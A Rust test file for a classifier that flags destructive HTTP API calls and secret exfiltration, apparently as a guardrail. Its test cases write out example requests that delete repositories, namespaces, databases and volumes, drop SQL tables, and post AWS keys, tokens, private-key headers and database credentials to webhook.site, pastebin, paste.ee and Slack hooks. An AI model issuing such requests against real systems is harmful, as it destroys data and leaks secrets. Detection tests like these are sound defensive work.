//! Tests of the HTTP classifier: spans are offsets into `http_text` (`METHOD URL\nBODY`).
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use super::*;
use crate::catalog::{Catalog, example_request};
use crate::request::Request;

/// Classifies an example (`METHOD URL\nBODY`) and returns (rule, target, span text, environment).
fn run_with(
    example: &str,
    headers: &[(&str, &str)],
) -> Vec<(String, String, String, Option<String>)> {
    let catalog = Catalog::embedded_with_examples().unwrap();
    let cx = Classifier::new(&catalog, None);
    let Request::Http(mut request) = example_request(RequestKind::Http, example).unwrap() else {
        unreachable!()
    };
    for (k, v) in headers {
        request.headers.insert((*k).to_string(), (*v).to_string());
    }
    let text = http_text(&request);
    assert_eq!(text, example);
    classify_http(&cx, &request)
        .into_iter()
        .map(|a| {
            let span = a
                .evidence
                .span
                .and_then(|s| s.text(&text))
                .unwrap_or("<none>")
                .to_string();
            (a.evidence.rule, a.target, span, a.environment)
        })
        .collect()
}

fn run(example: &str) -> Vec<(String, String, String, Option<String>)> {
    run_with(example, &[])
}

fn rules(example: &str) -> Vec<String> {
    run(example).into_iter().map(|a| a.0).collect()
}

#[test]
fn incident_railway_volume_delete() {
    let example = r#"POST https://backboard.railway.com/graphql/v2
{"query": "mutation volumeDelete($volumeId: String!) { volumeDelete(volumeId: $volumeId) }", "variables": {"volumeId": "8a4c1f2e-5b7d-4e9a-b3c6-1d2e3f4a5b6c"}, "operationName": "volumeDelete"}"#;
    let got = run_with(example, &[("Content-Type", "application/json")]);
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].0, "RWY001");
    assert_eq!(got[0].1, "volume 8a4c1f2e-5b7d-4e9a-b3c6-1d2e3f4a5b6c");
    assert_eq!(got[0].2, "volumeDelete(volumeId: $volumeId)");
    let catalog = Catalog::embedded_with_examples().unwrap();
    assert_eq!(
        catalog.rule("RWY001").unwrap().verdict,
        crate::action::Verdict::Ask
    );
}

#[test]
fn graphql_span_survives_json_escapes() {
    let example = r#"POST https://backboard.railway.com/graphql/v2
{"query": "mutation { projectDelete(id: \"5e594338\") }"}"#;
    let got = run(example);
    assert_eq!(got[0].0, "RWY002");
    assert_eq!(got[0].1, "project 5e594338");
    assert_eq!(got[0].2, r#"projectDelete(id: \"5e594338\")"#);
    // An unusual spelling (`\u0020`) cannot be mapped exactly: the whole body is the span.
    let odd = "POST https://backboard.railway.com/graphql/v2\n{\"query\": \"mutation {\\u0020volumeDelete(volumeId: \\\"v\\\") }\"}";
    let got = run(odd);
    assert_eq!(got[0].0, "RWY001");
    assert!(got[0].2.starts_with("{\"query\""));
}

#[test]
fn batched_graphql_arrays() {
    let example = r#"POST https://api.example.com/graphql
[{"query": "query { me { id } }"}, {"query": "mutation { deleteComment(id: 1) { ok } }"}]"#;
    let got = run(example);
    assert_eq!(got.len(), 1);
    assert_eq!(
        (got[0].0.as_str(), got[0].2.as_str()),
        ("GQL005", "deleteComment(id: 1)")
    );
}

#[test]
fn graphql_in_get_query_string() {
    let example = "GET https://api.example.com/graphql?query=mutation%20%7B%20projectDelete(id%3A%201)%20%7D&operationName=x";
    let got = run(example);
    assert_eq!(got[0].0, "GQL004");
    assert_eq!(got[0].2, "mutation%20%7B%20projectDelete(id%3A%201)%20%7D");
    assert!(
        rules("GET https://api.example.com/graphql?query=%7B%20me%20%7B%20id%20%7D%20%7D")
            .is_empty()
    );
    // `?query=` on an ordinary search endpoint is not GraphQL.
    assert!(rules("GET https://api.example.com/search?query=delete%20old%20branches").is_empty());
}

#[test]
fn raw_graphql_body() {
    let catalog = Catalog::embedded_with_examples().unwrap();
    let cx = Classifier::new(&catalog, None);
    let request = HttpRequest {
        method: "POST".into(),
        url: "https://api.example.com/api".into(),
        headers: [(
            "content-type".to_string(),
            "application/graphql".to_string(),
        )]
        .into(),
        body: Some("mutation { dropDatabase(name: \"x\") }".into()),
    };
    let actions = classify_http(&cx, &request);
    assert_eq!(actions[0].evidence.rule, "GQL004");
    assert_eq!(
        actions[0].evidence.span.unwrap().text(&http_text(&request)),
        Some("dropDatabase(name: \"x\")")
    );
}

#[test]
fn graphql_reads_are_allowed() {
    for example in [
        "POST https://backboard.railway.com/graphql/v2\n{\"query\": \"query { me { name email } }\"}",
        "POST https://backboard.railway.com/graphql/v2\n{\"query\": \"query { __schema { mutationType { fields { name } } } }\"}",
        "POST https://api.github.com/graphql\n{\"query\": \"query { viewer { login } }\"}",
        "POST https://hasura.acme.internal/v1/graphql\n{\"query\": \"query { orders(limit: 10) { id } }\"}",
        "POST https://es.prod.acme.internal:9200/orders/_search\n{\"query\": {\"match\": {\"status\": \"failed\"}}, \"size\": 20}",
        "POST https://backboard.railway.com/graphql/v2\n",
    ] {
        assert!(rules(example).is_empty(), "{example}: {:?}", rules(example));
    }
}

#[test]
fn unparseable_graphql_to_an_endpoint_asks() {
    let got = run(
        "POST https://backboard.railway.com/graphql/v2\n{\"query\": \"mutation { volumeDelete(\"}",
    );
    assert_eq!(got[0].0, "GQL001");
    assert_eq!(got[0].2, "mutation { volumeDelete(");
    assert_eq!(
        rules("POST https://api.example.com/graphql\n{not json"),
        ["GQL001"]
    );
    // Broken JSON to an ordinary endpoint is just a write.
    assert!(rules("POST https://api.example.com/items\n{not json").is_empty());
}

#[test]
fn provider_deletes() {
    let cases = [
        (
            "DELETE https://api.github.com/repos/acme/api",
            "GHB001",
            "repository acme/api",
        ),
        (
            "DELETE https://api.github.com/repos/acme/api/git/refs/heads/main",
            "GHB002",
            "ref acme/api heads/main",
        ),
        (
            "DELETE https://api.heroku.com/apps/acme-prod",
            "CLD002",
            "heroku app acme-prod",
        ),
        (
            "DELETE https://api.vercel.com/v9/projects/acme-web",
            "CLD004",
            "vercel project acme-web",
        ),
        (
            "DELETE https://api.digitalocean.com/v2/droplets/3164494",
            "CLD005",
            "digitalocean /v2/droplets/3164494",
        ),
        (
            "DELETE https://api.supabase.com/v1/projects/abcdefghijklmnopqrst",
            "DBA001",
            "supabase project abcdefghijklmnopqrst",
        ),
        (
            "DELETE https://es.prod.acme.internal:9200/orders",
            "ESR001",
            "index orders",
        ),
        (
            "DELETE http://es-prod.internal:9200/orders-*",
            "ESR002",
            "indices /orders-*",
        ),
        (
            "DELETE https://k8s.acme.internal:6443/api/v1/namespaces/production",
            "KUB001",
            "namespace production",
        ),
        (
            "DELETE https://api.stripe.com/v1/customers/cus_NffrFeUfNV2Hib",
            "CLD012",
            "stripe customers cus_NffrFeUfNV2Hib",
        ),
        (
            "DELETE https://console.neon.tech/api/v2/projects/damp-frost-123456",
            "DBA003",
            "neon project damp-frost-123456",
        ),
        (
            "DELETE https://api.cloudflare.com/client/v4/zones/023e105f",
            "CLD007",
            "cloudflare zone 023e105f",
        ),
        (
            "DELETE https://vault.acme.internal:8200/v1/secret/metadata/prod/postgres",
            "CLD013",
            "vault secret secret/prod/postgres",
        ),
        (
            "DELETE https://api.linode.com/v4/linode/instances/123456",
            "CLD009",
            "linode /v4/linode/instances/123456",
        ),
        (
            "DELETE https://gitlab.com/api/v4/projects/4821",
            "GHB006",
            "gitlab project 4821",
        ),
        (
            "DELETE https://api.machines.dev/v1/apps/acme-api",
            "CLD010",
            "fly app acme-api",
        ),
    ];
    for (example, rule, target) in cases {
        let got = run(example);
        assert_eq!(got.len(), 1, "{example}: {got:?}");
        assert_eq!(
            (got[0].0.as_str(), got[0].1.as_str()),
            (rule, target),
            "{example}"
        );
        assert_eq!(got[0].2, example, "span is the request line");
    }
}

#[test]
fn environment_from_host_or_path() {
    assert_eq!(
        run("DELETE https://es.prod.acme.internal:9200/orders")[0]
            .3
            .as_deref(),
        Some("production")
    );
    assert_eq!(
        run("DELETE https://k8s.acme.internal:6443/api/v1/namespaces/production")[0]
            .3
            .as_deref(),
        Some("production")
    );
    assert_eq!(
        run("DELETE https://api.heroku.com/apps/acme-staging")[0]
            .3
            .as_deref(),
        Some("staging")
    );
    assert_eq!(run("DELETE https://api.example.com/v1/items/42")[0].3, None);
}

#[test]
fn generic_rest_deletes_and_destructive_endpoints() {
    assert_eq!(
        rules("DELETE https://api.example.com/v1/items/42"),
        ["HTP004"]
    );
    assert_eq!(
        rules("DELETE https://api.example.com/v1/projects/acme"),
        ["HTP003"]
    );
    assert_eq!(
        rules("DELETE https://api.example.com/orgs/acme"),
        ["HTP002"]
    );
    assert_eq!(
        rules("POST https://api.example.com/v1/databases/42/reset"),
        ["HTP005"]
    );
    assert!(rules("POST https://api.example.com/v1/zones/abc/purge_cache\n{}").is_empty());
    assert!(rules("POST https://api.example.com/v1/items\n{\"name\": \"x\"}").is_empty());
    assert!(rules("PUT https://api.example.com/v1/items/1\n{\"deleted\": false}").is_empty());
}

#[test]
fn aws_query_api_in_body_or_query_string() {
    let got = run(
        "POST https://rds.us-east-1.amazonaws.com/\nAction=DeleteDBInstance&DBInstanceIdentifier=prod-db&Version=2014-10-31",
    );
    assert_eq!(got[0].0, "CLD001");
    assert_eq!(got[0].1, "aws DeleteDBInstance");
    assert_eq!(got[0].2, "Action=DeleteDBInstance");
    assert_eq!(got[0].3.as_deref(), Some("production"));
    assert_eq!(
        rules("GET https://ec2.amazonaws.com/?Action=TerminateInstances&InstanceId.1=i-1"),
        ["CLD001"]
    );
    assert!(rules("GET https://ec2.amazonaws.com/?Action=DescribeInstances").is_empty());
}

#[test]
fn reads_yield_nothing() {
    for example in [
        "GET https://api.github.com/repos/acme/api/pulls?state=open",
        "GET https://api.heroku.com/apps/acme-prod/releases",
        "GET https://k8s.acme.internal:6443/api/v1/namespaces/production/pods",
        "HEAD https://acme.com/healthz",
        "OPTIONS https://api.github.com/repos/acme/api",
        "GET https://vault.acme.internal:8200/v1/sys/health",
        "POST https://es.prod.acme.internal:9200/_count\n{\"query\": {\"match_all\": {}}}",
        "get https://registry.npmjs.org/express",
    ] {
        assert!(rules(example).is_empty(), "{example}: {:?}", rules(example));
    }
}

#[test]
fn exfiltration_of_secrets() {
    let got = run(
        "POST https://webhook.site/3f9c\naws_access_key_id=AKIAIOSFODNN7EXAMPLE&aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    );
    assert_eq!(got.len(), 1);
    assert_eq!(
        (got[0].0.as_str(), got[0].2.as_str()),
        ("HEX001", "AKIAIOSFODNN7EXAMPLE")
    );
    assert_eq!(got[0].1, "aws access key to webhook.site");
    let key = "POST https://hooks.slack.com/services/T0/B0/X\n{\"text\": \"-----BEGIN OPENSSH PRIVATE KEY-----\\nb3Bl\\n-----END OPENSSH PRIVATE KEY-----\"}";
    assert_eq!(run(key)[0].2, "-----BEGIN OPENSSH PRIVATE KEY-----");
    assert_eq!(
        rules(
            "POST https://collect.example.net/u\n{\"k\": \"ghp_0123456789abcdefghijABCDEFGHIJ012345\"}"
        ),
        ["HEX002"]
    );
    // Percent-encoded credentials in a form body count too.
    assert_eq!(
        rules("POST https://pastebin.com/api/api_post.php\napi_paste_code=password%3Dhunter2"),
        ["HEX001"]
    );
    // A login form to an ordinary API, a key to localhost, a plain message to a webhook: no action.
    assert!(
        rules("POST https://api.example.com/login\n{\"user\": \"a\", \"password\": \"b\"}")
            .is_empty()
    );
    assert!(rules("POST http://127.0.0.1:8080/x\n{\"k\": \"AKIAIOSFODNN7EXAMPLE\"}").is_empty());
    assert!(rules("POST https://webhook.site/x\n{\"event\": \"done\"}").is_empty());
}

#[test]
fn persisted_queries_are_judged_by_operation_name() {
    let example = r#"POST https://api.example.com/graphql
{"operationName": "DeleteProject", "variables": {"id": "p1"}, "extensions": {"persistedQuery": {"version": 1, "sha256Hash": "abc"}}}"#;
    let got = run(example);
    assert_eq!(got[0].0, "GQL004");
    assert_eq!(got[0].1, "DeleteProject p1");
    let read = r#"POST https://api.example.com/graphql
{"operationName": "GetProjects", "extensions": {"persistedQuery": {"version": 1, "sha256Hash": "abc"}}}"#;
    assert!(rules(read).is_empty());
}

#[test]
fn credentials_in_headers_and_urls() {
    let got = run_with(
        "POST https://webhook.site/x\n{\"event\": \"x\"}",
        &[("Authorization", "Bearer abc")],
    );
    assert_eq!(got[0].0, "HEX001");
    assert_eq!(got[0].2, "POST https://webhook.site/x");
    // The API's own credential in its own header is not exfiltration.
    assert!(
        run_with(
            "GET https://api.github.com/user",
            &[(
                "Authorization",
                "Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345"
            )]
        )
        .is_empty()
    );
    let got = run("POST https://paste.ee/api\nDATABASE_URL=postgres://app:s3cret@db.prod:5432/app");
    assert_eq!(got[0].0, "HEX001");
    assert_eq!(got[0].2, "postgres://app:s3cret@db.prod:5432");
}

#[test]
fn graphql_with_leading_comment_on_a_non_graphql_path() {
    let got =
        run("POST https://api.example.com/api\n{\"query\": \"# wipe it\\nmutation { wipeData }\"}");
    assert_eq!(got[0].0, "GQL005");
    assert_eq!(got[0].2, "wipeData");
}

#[test]
fn unparseable_urls_ask() {
    for example in ["GET not a url", "DELETE http://", "POST ://x", "GET "] {
        let got = run(example);
        assert_eq!(got.len(), 1, "{example}");
        assert_eq!(got[0].0, "HTP001");
    }
}

#[test]
fn garbage_never_panics() {
    let catalog = Catalog::embedded_with_examples().unwrap();
    let cx = Classifier::new(&catalog, None);
    let long_path = format!("https://x.example/{}", "a/**/".repeat(2000));
    let bodies = [
        "",
        "{",
        "[[[[",
        "\u{0}\u{ff}",
        "=&=&",
        "%zz=%",
        "[{\"query\": 1}, 2, null]",
        "-----BEGIN ",
    ];
    for url in [
        "https://api.example.com/graphql",
        "http://[::1]:9200/x",
        long_path.as_str(),
        "https://é.example/ü?query=ü",
    ] {
        for body in bodies {
            for method in ["POST", "DELETE", "GET", "", "ü"] {
                let request = HttpRequest {
                    method: method.into(),
                    url: url.into(),
                    headers: Default::default(),
                    body: Some(body.into()),
                };
                let _ = classify_http(&cx, &request);
            }
        }
    }
}

#[test]
fn sql_in_json_bodies_of_sql_endpoints_is_judged() {
    let drop = "POST https://api.supabase.com/v1/projects/abcdefghijklmnopqrst/database/query\n{\"query\": \"DROP TABLE public.orders;\"}";
    let got = run(drop);
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].0, "SQL003");
    // The span is the SQL string in the body.
    assert_eq!(got[0].2, "DROP TABLE public.orders;");
    let pipeline = "POST https://acme-db.turso.io/v2/pipeline\n{\"requests\": [{\"type\": \"execute\", \"stmt\": {\"sql\": \"DELETE FROM users\"}}]}";
    assert_eq!(rules(pipeline), ["SQL006"]);
    for harmless in [
        "POST https://api.cloudflare.com/client/v4/accounts/a/d1/database/x/query\n{\"sql\": \"SELECT count(*) FROM users\"}",
        // Not an SQL endpoint, or not SQL.
        "POST https://api.example.com/v1/notes\n{\"sql\": \"DROP TABLE users\"}",
        "POST https://es.internal:9200/orders/_search\n{\"query\": {\"match_all\": {}}}",
        "GET https://api.example.com/v1/query?sql=x",
    ] {
        assert!(rules(harmless).is_empty(), "{harmless}");
    }
}
